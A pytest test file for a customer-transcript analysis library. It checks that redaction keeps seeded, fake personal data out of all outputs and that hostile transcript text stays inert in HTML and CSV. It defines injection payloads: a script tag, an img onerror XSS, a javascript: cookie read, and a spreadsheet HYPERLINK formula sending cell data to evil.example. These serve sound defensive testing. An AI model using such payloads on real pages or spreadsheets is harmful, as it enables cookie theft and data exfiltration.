"""Seeded personal data never reaches an output; hostile transcript text is inert in HTML and CSV.

A copy of the sample frame (in memory; data/samples is never touched) gets the issue's PII
seeds written into customer and agent messages of every channel and language. Then every
output is checked: redacted CSV and Parquet frames, the redacted evidence table,
``cx.write_reports`` (HTML pages, scores.csv, and the text of every figure drawn), and the log
records of the whole run. A control run with ``redact=False`` shows the seeds do reach the
pages when nothing redacts, so the checks can fail.
"""

from __future__ import annotations

import logging
import re
from pathlib import Path

import pandas as pd
import pytest

import cxanalysis as cx
from cxanalysis._output import write_csv, write_frame
from cxanalysis.redact import redact_evidence

SEEDS = [
    "jane.roe@example.com",
    "+1 415 555 0134",
    "+7 (912) 345-67-89",
    "090-1234-5678",
    "138 0013 8000",
    "４１１１ １１１１ １１１１ １１１１",
    "4111 1111 1111 1111",
    "@115712",
    "112-4455667-1234567",
]
# the digits of each seed, to catch a seed that survives with other separators
SEED_DIGITS = [
    d for s in SEEDS if len(d := re.sub(r"\D", "", s.translate({cp: cp - 0xFEE0 for cp in range(0xFF10, 0xFF1A)}))) >= 6
]
# what the seeds say, per language (the sentence around them is ours)
SENTENCES = {
    "en": "You can reach me at jane.roe@example.com or +1 415 555 0134; card 4111 1111 1111 1111, order 112-4455667-1234567.",
    "ru": "Мой телефон +7 (912) 345-67-89, почта jane.roe@example.com, заказ 112-4455667-1234567.",
    "ja": "電話は090-1234-5678、カードは４１１１ １１１１ １１１１ １１１１です。",
    "zh": "我的手机是138 0013 8000，邮箱jane.roe@example.com。",
}
AGENT_SENTENCES = {
    "social": "@115712 we have your order 112-4455667-1234567 and will call +1 415 555 0134.",
    "other": "Noted: jane.roe@example.com, card 4111 1111 1111 1111, phone 138 0013 8000.",
}
INJECTIONS = [
    "<script>alert('cx')</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
]


def _seeded(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with the seeds in every conversation's first customer and agent messages."""
    df = frame.copy()
    text = df["text"].astype(object).copy()
    for _, conv in df.groupby("conversation_id", sort=False):
        for role in ("customer", "agent"):
            rows = conv.index[conv["role"] == role]
            if not len(rows):
                continue
            i = rows[0]
            lang = df.at[i, "lang"] if df.at[i, "lang"] in SENTENCES else "en"
            add = SENTENCES[lang] if role == "customer" else AGENT_SENTENCES.get(str(df.at[i, "channel"]), SENTENCES[lang])
            text[i] = f"{add} {text[i]} {add}" if role == "agent" else f"{text[i]} {add}"
    df["text"] = text.astype(frame["text"].dtype)
    return df


def _leaks(content: str) -> list[str]:
    found = [s for s in SEEDS if s in content]
    squashed = re.sub(r"[\s\-().+＋－]", "", content.translate({cp: cp - 0xFEE0 for cp in range(0xFF10, 0xFF1A)}))
    found += [d for d in SEED_DIGITS if d in squashed]
    return found


@pytest.fixture(scope="module")
def seeded(sample_frame) -> pd.DataFrame:
    return _seeded(sample_frame)


def test_seeds_are_in_the_input(seeded, sample_frame) -> None:
    everything = "\n".join(seeded["text"])
    assert sorted(set(_leaks(everything))) == sorted(set(SEEDS + SEED_DIGITS))
    assert not _leaks("\n".join(sample_frame["text"]))  # and nowhere in the bundled samples
    assert len(sample_frame) == len(seeded)


def test_redacted_frame_csv_parquet_have_no_seeds(seeded, tmp_path: Path) -> None:
    red = cx.redact(seeded, columns=("text", "speaker"))
    assert red["text"].str.contains(r"\[(?:EMAIL|PHONE|CARD|ORDER|HANDLE)\]").sum() >= 2 * seeded["conversation_id"].nunique()
    csv_path = write_csv(red, tmp_path / "frame.csv")
    assert _leaks(csv_path.read_text(encoding="utf-8")) == []
    pq = write_frame(red, tmp_path / "frame.parquet")
    back = pd.read_parquet(pq)
    assert _leaks("\n".join(map(str, back.to_numpy().ravel()))) == []
    jl = write_frame(red, tmp_path / "frame.jsonl")
    assert _leaks(jl.read_text(encoding="utf-8")) == []
    # the input is untouched and still holds the seeds
    assert _leaks("\n".join(seeded["text"]))


def test_redacted_evidence_has_no_seeds_and_keeps_offsets(seeded, tmp_path: Path) -> None:
    feats = cx.featurize(seeded)
    ev = feats.evidence.dropna(subset=["start", "end"]).reset_index(drop=True)
    texts = dict(zip(seeded["message_id"], seeded["text"], strict=True))
    # evidence whose quote holds a seed exists (the seeds sit next to marker phrases) ...
    wide = ev.assign(
        ctx=[
            texts[m][max(0, int(s) - 60) : int(e) + 60] for m, s, e in zip(ev["message_id"], ev["start"], ev["end"], strict=True)
        ]
    )
    assert _leaks("\n".join(wide["ctx"]))
    out = redact_evidence(ev, seeded)
    pd.testing.assert_series_equal(out["start"], ev["start"])
    pd.testing.assert_series_equal(out["end"], ev["end"])
    assert all(
        texts[m][int(s) : int(e)] == q for m, s, e, q in zip(ev["message_id"], ev["start"], ev["end"], ev["quote"], strict=True)
    )
    path = write_csv(out, tmp_path / "evidence.csv")
    assert _leaks(path.read_text(encoding="utf-8")) == []


def _hostile(frame: pd.DataFrame) -> pd.DataFrame:
    """The seeded frame plus injection payloads: every later agent message carries them, and
    every later customer message starts with a spreadsheet formula."""
    df = _seeded(frame)
    text = df["text"].astype(object).copy()
    first = df.groupby(["conversation_id", "role"], observed=True).head(1).index
    payload = " ".join(INJECTIONS)
    for i in df.index.difference(first):
        if df.at[i, "role"] == "agent":
            text[i] = f"{payload} {text[i]} {payload}"
        elif df.at[i, "role"] == "customer":
            text[i] = f"{INJECTIONS[3]} {text[i]}"
    df["text"] = text.astype(frame["text"].dtype)
    return df


class _Records(logging.Handler):
    def __init__(self) -> None:
        super().__init__(level=logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(f"{record.name} {record.getMessage()}")


@pytest.fixture(scope="module")
def reports(sample_frame, tmp_path_factory) -> dict:
    """``cx.write_reports`` of the hostile frame, redacted and (control) not; figure texts and logs."""
    from cxanalysis.report import figures

    df = _hostile(sample_frame)
    feats = cx.featurize(df)
    scores = cx.score(feats)
    out: dict = {"df": df}
    for redact in (True, False):
        drawn: list[str] = []
        original = figures.figure_uri

        def recording(fig, drawn=drawn, original=original):
            from matplotlib.text import Text

            drawn.extend(t.get_text() for t in fig.findobj(Text))
            return original(fig)

        handler = _Records()
        root = logging.getLogger()
        old_level = root.level
        root.addHandler(handler)
        root.setLevel(logging.DEBUG)
        try:
            with pytest.MonkeyPatch.context() as mp:
                mp.setattr(figures, "figure_uri", recording)
                written = cx.write_reports(
                    df, tmp_path_factory.mktemp("reports"), redact=redact, feats=feats, scores=scores, progress=False
                )
        finally:
            root.removeHandler(handler)
            root.setLevel(old_level)
        pages = {Path(p).name: Path(p).read_text(encoding="utf-8") for p in written.values()}
        out[redact] = {"pages": pages, "drawn": drawn, "logs": handler.lines}
    return out


def test_reports_have_no_seeds_in_pages_figures_csv_or_logs(reports) -> None:
    red = reports[True]
    html = "\n".join(v for k, v in red["pages"].items() if k.endswith(".html"))
    assert "<html" in html.lower() and red["drawn"]
    assert _leaks(html) == []
    assert _leaks(red["pages"]["scores.csv"]) == []
    assert _leaks("\n".join(red["drawn"])) == []
    assert _leaks("\n".join(red["logs"])) == []
    assert re.search(r"\[(?:PHONE|EMAIL|ORDER|CARD|HANDLE)\]", html)


def test_reports_without_redaction_do_show_seeds(reports) -> None:
    # the control: without redaction the seeds reach the pages, so the checks above can fail
    assert _leaks("\n".join(reports[False]["pages"].values()))


def test_transcript_text_is_inert_in_html_and_csv(reports, tmp_path: Path) -> None:
    for redact in (True, False):
        html = "\n".join(v for k, v in reports[redact]["pages"].items() if k.endswith(".html"))
        assert "&lt;script&gt;" in html  # the payload is on the pages, escaped
        assert "<script>alert" not in html
        assert "<img src=x" not in html and '"><img' not in html
        assert not re.search(r"""(?:href|src|action)\s*=\s*["']?\s*javascript:""", html, re.IGNORECASE)
    # CSV exports: every cell that would start a formula is neutralised
    df = reports["df"]
    path = write_csv(cx.redact(df), tmp_path / "frame.csv")
    cells = pd.read_csv(path, dtype=str, keep_default_na=False)["text"]
    assert not cells.str.match(r"[=+\-@\t\r]").any()
    formula = df["text"].str.startswith("=").to_numpy()
    assert formula.sum() > 10
    assert cells[formula].str.startswith("'=HYPERLINK").all()


@pytest.fixture(scope="module")
def seeded_file(seeded, tmp_path_factory) -> Path:
    """The seeded frame as a CSV, with a customer's address also in a speaker and in a conversation id."""
    df = seeded.copy()
    first = df["conversation_id"].iloc[0]
    cust = (df["conversation_id"] == first) & (df["role"] == "customer")
    df["speaker"] = df["speaker"].astype(object)
    df.loc[cust, "speaker"] = "Jane Roe <jane.roe@example.com>"
    df["conversation_id"] = df["conversation_id"].astype(object).replace({first: "em-7781.jane.roe@example.com"})
    path = tmp_path_factory.mktemp("seeded") / "seeded.csv"
    df[["conversation_id", "message_id", "timestamp", "role", "speaker", "text", "channel", "lang"]].to_csv(path, index=False)
    return path


def _cli_outputs(path: Path, out: Path, redact: bool, capsys) -> str:
    from cxanalysis.cli import main

    flag = ["--redact"] if redact else []
    f = ["-o", str(out / "f.csv"), "--evidence", str(out / "e.csv"), "--conversations", str(out / "c.csv")]
    assert main(["featurize", str(path), *f, *flag]) == 0
    assert main(["score", str(path), "-o", str(out / "s.csv"), "--explain", "em-7781.jane.roe@example.com", *flag]) == 0
    printed = capsys.readouterr()
    return "\n".join([*(p.read_text(encoding="utf-8") for p in sorted(out.glob("*.csv"))), printed.out, printed.err])


def test_cli_featurize_and_score_with_redact_write_no_seeds(seeded_file, tmp_path: Path, capsys) -> None:
    plain = _cli_outputs(seeded_file, tmp_path / "plain", False, capsys)
    assert "jane.roe@example.com" in plain and _leaks(plain)  # the control: without --redact they are there
    red = _cli_outputs(seeded_file, tmp_path / "red", True, capsys)
    assert _leaks(red) == []
    assert "Jane Roe" not in red
    # ids stay joinable: the redacted conversation id is the same label in every table
    f, s = pd.read_csv(tmp_path / "red" / "f.csv"), pd.read_csv(tmp_path / "red" / "s.csv")
    c = pd.read_csv(tmp_path / "red" / "c.csv")
    labels = {x for x in f["conversation_id"] if "[EMAIL]#" in x}
    assert len(labels) >= 2 and labels <= set(s["conversation_id"]) and labels <= set(c["conversation_id"])  # ours + e-mails
    assert f["conversation_id"].nunique() == pd.read_csv(tmp_path / "plain" / "f.csv")["conversation_id"].nunique()


def test_cli_chunked_featurize_with_redact_writes_no_seeds(seeded_file, tmp_path: Path) -> None:
    from cxanalysis.cli import main

    out = ["-o", str(tmp_path / "f.parquet"), "--evidence", str(tmp_path / "e.csv"), "--conversations", str(tmp_path / "c.csv")]
    assert main(["featurize", str(seeded_file), "--chunksize", "40", "--redact", *out]) == 0
    f = pd.read_parquet(tmp_path / "f.parquet")
    written = "\n".join([f.to_csv(index=False), (tmp_path / "e.csv").read_text("utf-8"), (tmp_path / "c.csv").read_text("utf-8")])
    assert _leaks(written) == [] and "Jane Roe" not in written
    assert len(f) == len(pd.read_csv(seeded_file))  # every message is still there


def test_cli_redact_masks_addresses_in_reader_warnings(samples, tmp_path: Path, capsys) -> None:
    from cxanalysis.cli import main

    # without the samples' config the e-mail speakers are unmapped: the warning names them
    assert main(["score", str(samples / "email"), "-o", str(tmp_path / "plain.csv")]) == 0
    assert "@mail.example" in capsys.readouterr().err
    assert main(["score", str(samples / "email"), "-o", str(tmp_path / "red.csv"), "--redact"]) == 0
    err = capsys.readouterr().err
    assert "unmapped" in err and "[EMAIL]" in err and "@mail.example" not in err


def test_cli_read_with_redact_masks_frame_rejects_and_keeps_joins(seeded_file, tmp_path: Path) -> None:
    from cxanalysis.cli import main

    bad = tmp_path / "with_a_bad_row.csv"
    lines = seeded_file.read_text(encoding="utf-8").splitlines()
    # one more row whose timestamp cannot be read: it goes to the rejects with its raw text
    lines.append('zz,zz-1,not a time,customer,Jane Roe,"Call +1 415 555 0134 or jane.roe@example.com",chat,en')
    bad.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out, rej = tmp_path / "frame.parquet", tmp_path / "rejects.csv"
    assert main(["read", str(bad), "-o", str(out), "--rejects", str(rej), "--redact"]) == 0
    frame = pd.read_parquet(out)
    written = frame.astype(str).to_csv(index=False) + rej.read_text(encoding="utf-8")
    assert "not a time" in written  # the rejected row is there, with its reason
    assert _leaks(written) == [] and "Jane Roe" not in written


def test_cli_read_with_redact_keeps_email_replies_joined(samples, tmp_path: Path) -> None:
    from cxanalysis.cli import main

    out = tmp_path / "email.parquet"
    assert main(["read", str(samples / "email"), "--config", str(samples / "cx.yml"), "-o", str(out), "--redact"]) == 0
    frame = pd.read_parquet(out)
    ids = pd.concat([frame["conversation_id"], frame["message_id"], frame["reply_to"].dropna()])
    assert not ids.str.contains("@").any()  # Message-IDs hold addresses
    replies = frame["reply_to"].dropna()
    assert len(replies) and replies.isin(set(frame["message_id"])).all()  # still joined after redaction
